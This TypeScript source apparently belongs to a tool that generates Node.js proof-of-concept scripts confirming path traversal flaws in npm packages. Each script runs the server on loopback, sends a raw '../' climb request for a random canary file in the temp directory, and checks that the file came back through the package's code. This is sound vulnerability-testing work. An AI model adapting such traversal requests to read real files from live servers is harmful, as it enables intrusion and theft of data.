/**
 * Writes a path traversal plan out as a reproducer: it starts the server inside its own process, asks it over loopback
 * for a file of random content that lies outside of what is served, and asks again without the climb.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are code that is written out.
import { FLAW_CLASSES } from '../formats/flaw-class.ts';
import { argumentLiterals, memberAccess, quoted } from './literal.ts';
import type { PlanReach, ProbePlan } from './plan.ts';
import { separatorOf } from './traversal-climb.ts';
import { spellPorts, spellReach } from './traversal-entry.ts';
import { VERDICT_PREFIX } from './verdict.ts';
import { loopbackText } from './world-text.ts';

/** Milliseconds the reproducer gives the server to listen, and then to answer. */
const LISTEN_MILLISECONDS = 4000;
const ANSWER_MILLISECONDS = 3000;
/** So many looks, ten milliseconds apart, find nothing under way: the server, which runs in the same process, has given up. */
const IDLE_LOOKS = 30;
/** And so many, that no other server is about to listen. */
const SETTLED_LOOKS = 4;

export interface TraversalRenderOptions {
  readonly packageName: string;
  readonly fileName: string;
}

/** The text of the reproducer without the line that holds the plan. */
export function renderTraversal(plan: ProbePlan, options: TraversalRenderOptions): string[] {
  const { drive } = plan;
  if (drive.kind !== 'http' && drive.kind !== 'handler' && drive.kind !== 'bin')
    throw new Error(`no server to render in a ${drive.kind} drive`);
  return [
    ...head(plan, options),
    ...loopbackText(plan),
    ...worldText(),
    ...requestText(plan),
    ...startText(plan, options),
    ...tail(),
  ];
}

const BUILT_INS = [
  ['fs', 'fs'],
  ['crypto', 'crypto'],
  ['http', 'http'],
  ['Module', 'module'],
  ['net', 'net'],
  ['os', 'os'],
  ['path', 'path'],
] as const;

function head(plan: ProbePlan, { packageName, fileName }: TraversalRenderOptions): string[] {
  const flaw = FLAW_CLASSES[plan.flaw];
  const isModule = plan.format === 'esm';
  return [
    `// ${flaw.title} (${flaw.cwe}) in ${packageName}, shown by a harmless canary.`,
    `// Run it where node_modules/${packageName} lies: node ${fileName} [canary]`,
    '// Exit status: 0 the flaw showed, 1 it did not, 2 the target could not be loaded or the call not reached.',
    ...(isModule ? [] : ["'use strict';"]),
    ...BUILT_INS.map(([name, from]) =>
      isModule ? `import ${name} from 'node:${from}';` : `const ${name} = require('node:${from}');`,
    ),
    '',
    "const canary = process.argv[2] ?? `hs${crypto.randomBytes(8).toString('hex')}`;",
    '// A file outside of everything that is served, with content that nothing else knows.',
    `const ending = ${quoted(endingOf(plan.payload))};`,
    'const secretFile = path.join(os.tmpdir(), canary);',
    "const secret = crypto.randomBytes(24).toString('hex');",
    'fs.writeFileSync(secretFile + ending, secret);',
    '// What the server is told to serve, and where it runs.',
    'const home = process.cwd();',
    "const site = path.join(home, 'site');",
    "fs.mkdirSync(path.join(site, 'public'), { recursive: true });",
    "fs.writeFileSync(path.join(site, 'index.html'), '<p>site</p>');",
    'process.chdir(site);',
    '',
    'let fired = false;',
    'let reached = false;',
    'let frames = [];',
    '',
  ];
}

const endingOf = (payload: string): string => /\{\{canary\}\}(\.\w+)?$/.exec(payload)?.[1] ?? '';

function worldText(): string[] {
  return [
    '// Whatever the package listens on becomes a free port on loopback.',
    'const servers = [];',
    'const listen = net.Server.prototype.listen;',
    'net.Server.prototype.listen = function (...args) {',
    '  servers.push(this);',
    '  if (this.listening) return this;',
    "  const where = { port: 0, host: '127.0.0.1', exclusive: true };",
    "  return listen.call(this, where, ...args.filter((arg) => typeof arg === 'function'));",
    '};',
    '// It may not end this process, nor fill its output.',
    'const exit = process.exit;',
    'process.exit = () => {',
    "  throw new Error('exit asked for');",
    '};',
    'const quiet = (chunk, ...rest) => {',
    "  rest.filter((arg) => typeof arg === 'function').forEach((done) => setImmediate(done));",
    '  return true;',
    '};',
    'process.stdout.write = quiet;',
    'process.stderr.write = quiet;',
    "process.on('uncaughtException', () => {});",
    "process.on('unhandledRejection', () => {});",
    '// Who reads the file: lines of the stack that lie in the target or its dependencies.',
    "for (const name of ['stat', 'statSync', 'open', 'openSync', 'readFile', 'readFileSync', 'createReadStream']) {",
    '  const original = fs[name];',
    '  fs[name] = Object.assign(function (...args) {',
    '    if (path.resolve(String(args[0])) === secretFile + ending) note();',
    '    return Reflect.apply(original, this, args);',
    '  }, original);',
    '}',
    'Module.syncBuiltinESMExports();',
    'function note() {',
    '  Error.stackTraceLimit = 60;',
    '  const found = String(new Error().stack).matchAll(/node_modules\\/((?:@[^\\/\\s]+\\/)?[^\\s()]+?):(\\d+):\\d+/g);',
    "  const stack = [...found].map(([, file, line]) => `${file.replace(/^.*node_modules\\//, '')}:${line}`).slice(0, 24);",
    '  if (stack.length > 0) frames = stack;',
    '}',
    '',
  ];
}

function requestText(plan: ProbePlan): string[] {
  const { drive } = plan;
  const target = ('requestTarget' in drive && drive.requestTarget) || '{{payload}}';
  const control = ('control' in drive && drive.control) || '/{{canary}}';
  const climb = target.split('{{payload}}').join(plan.payload);
  return [
    '// The request line goes out byte by byte: clients tidy up `..` before they send.',
    `const climb = ${requestLiteral(climb)};`,
    `const noClimb = ${requestLiteral(control)};`,
    'function ask(port, target) {',
    '  return new Promise((resolve) => {',
    "    let answer = '';",
    "    const socket = net.connect(port, '127.0.0.1', () => {",
    '      socket.write(`GET ${target} HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nAccept: */*\\r\\nConnection: close\\r\\n\\r\\n`);',
    '    });',
    '    const finish = () => {',
    '      socket.destroy();',
    '      resolve(answer);',
    '    };',
    "    socket.on('data', (chunk) => {",
    "      answer += chunk.toString('latin1');",
    '      if (answer.includes(secret)) finish();',
    '    });',
    "    socket.on('error', finish);",
    "    socket.on('close', finish);",
    `    until(() => socket.destroyed, ${ANSWER_MILLISECONDS}).then(finish);`,
    '  });',
    '}',
    '',
  ];
}

/** A request target as a template: the canary's path is written with the separators of the climb. */
function requestLiteral(target: string): string {
  const separator = separatorOf(target);
  const path =
    separator === '/' ? '${secretFile.slice(1)}' : `\${secretFile.slice(1).replaceAll('/', ${quoted(separator)})}`;
  const climb = /((?:[^/\\%]|%2e)+(?:\/|\\|%2f|%5c|%252f)+)\1{5,}/i.exec(target);
  const body = (text: string): string =>
    text.replace(/[\\`]/g, '\\$&').replace(/\$\{/g, '\\${').split('{{canary}}').join(path);
  if (!climb?.[1]) return `\`${body(target)}\``;
  const count = climb[0].length / climb[1].length;
  const rest = target.slice(climb.index + climb[0].length);
  return `\`${body(target.slice(0, climb.index))}\${${quoted(climb[1])}.repeat(${count})}${body(rest)}\``;
}

function loadText(plan: ProbePlan, { packageName }: TraversalRenderOptions): string {
  if (plan.file === '')
    return plan.format === 'esm' ? `await import(${quoted(packageName)})` : `require(${quoted(packageName)})`;
  const file = quoted(`node_modules/${packageName}/${plan.file}`);
  return plan.format === 'esm'
    ? `await import(\`file://\${path.join(home, ${file})}\`)`
    : `require(path.join(home, ${file}))`;
}

function startText(plan: ProbePlan, options: TraversalRenderOptions): string[] {
  const { drive } = plan;
  const moved =
    plan.directory === 'package'
      ? [`  process.chdir(path.join(home, 'node_modules', ${quoted(options.packageName)}));`]
      : [];
  if (drive.kind === 'bin') {
    const words = argumentLiterals(spellPorts(drive.args));
    return [
      'async function start() {',
      ...moved,
      '  // As `node file` would run it.',
      `  const file = path.join(home, 'node_modules', ${quoted(options.packageName)}, ${quoted(drive.bin)});`,
      `  process.argv = [process.execPath, file${words ? `, ${words}` : ''}].map(String);`,
      ...Object.entries(drive.environment ?? {}).map(
        ([name, value]) => `  process.env${memberAccess(name)} = ${quoted(value)};`,
      ),
      ...(plan.format === 'esm' ? ['  await import(`file://${file}`);'] : ['  Module._load(file, null, true);']),
      '}',
      '',
    ];
  }
  const lines = ['async function start() {', ...moved, `  const target = ${loadText(plan, options)};`];
  const { at, owner } = walkText('target', spellReach(plan.reach), lines);
  const args = argumentLiterals(spellPorts(drive.args));
  if (drive.kind === 'handler') {
    lines.push(`  const handler = ${drive.shape === 'self' ? at : `await ${at}(${args})`};`);
    lines.push(
      '  http',
      '    .createServer((request, response) => {',
      '      const next = () => response.writeHead(404).end();',
      `      Promise.resolve(handler.call(${drive.shape === 'self' ? owner : 'undefined'}, request, response, next)).catch(() => {});`,
      '    })',
      '    .listen(0);',
    );
  } else if (drive.kind === 'http' && drive.start === 'construct') lines.push(`  new (${at})(${args});`);
  else if (drive.kind === 'http' && drive.start !== 'load') lines.push(`  await ${at}(${args});`);
  return [...lines, '}', ''];
}

/** Steps as statements. Every object on the way has a name, so that the last stays at hand as the `this` of the call. */
export function walkText(
  start: string,
  reach: readonly PlanReach[],
  lines: string[],
  indent = '  ',
): { at: string; owner: string } {
  let at = start;
  let owner = 'undefined';
  const name = (expression: string): void => {
    const taken = lines.filter((line) => /^ *const step\d+ = /.test(line)).length;
    at = `step${taken + 1}`;
    lines.push(`${indent}const ${at} = ${expression};`);
  };
  for (const step of reach) {
    if (step.kind === 'get') {
      owner = at;
      at += memberAccess(step.name);
    } else if (step.kind === 'tap') {
      if (!/^\w+$/.test(at)) name(at);
      lines.push(`${indent}${at}${memberAccess(step.name)}(${argumentLiterals(step.args)});`);
    } else if (step.kind === 'await') name(`await ${at}`);
    else if (step.kind === 'construct') name(`new (${at})(${argumentLiterals(step.args)})`);
    else name(`${at}(${argumentLiterals(step.args)})`);
  }
  return { at, owner };
}

function tail(): string[] {
  return [
    'const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));',
    '// The server runs in this very process: where nothing but connections is open for a while, nothing will come any more.',
    'const connections = /^(?:TCPServer|TCPSocket|Pipe|TTY)Wrap$/;',
    'const isIdle = () => process.getActiveResourcesInfo().every((kind) => connections.test(kind));',
    `async function until(isSo, milliseconds, looks = ${IDLE_LOOKS}) {`,
    '  const end = Date.now() + milliseconds;',
    '  for (let idle = 0; !isSo() && Date.now() < end && idle < looks; idle = isIdle() ? idle + 1 : 0) await pause(10);',
    '}',
    'async function attack() {',
    '  start().catch(() => {});',
    '  const listening = () => servers.filter((server) => server.listening && server.address()?.port);',
    `  await until(() => listening().length > 0, ${LISTEN_MILLISECONDS});`,
    '  // Others may follow; which of them comes first means nothing.',
    `  await until(() => false, ${LISTEN_MILLISECONDS}, ${SETTLED_LOOKS});`,
    '  let [climbed, open] = [false, false];',
    '  for (const server of listening()) {',
    '    const { port } = server.address();',
    '    reached = true;',
    '    climbed ||= (await ask(port, climb)).includes(secret);',
    '    open ||= (await ask(port, noClimb)).includes(secret);',
    '  }',
    '  // Only a file that came through the code of the target counts, and none that is served without a climb.',
    '  fired = climbed && !open && frames.length > 0;',
    '}',
    'attack().finally(() => {',
    "  const oracle = fired ? 'the content of a file outside the served directory came back' : 'no file from outside the served directory came back';",
    `  fs.writeSync(1, \`\\n${VERDICT_PREFIX} \${canary} \${JSON.stringify({ fired, reached, oracle, frames })}\\n\`);`,
    '  fs.rmSync(secretFile + ending, { force: true });',
    '  exit.call(process, fired ? 0 : reached ? 1 : 2);',
    '});',
  ];
}
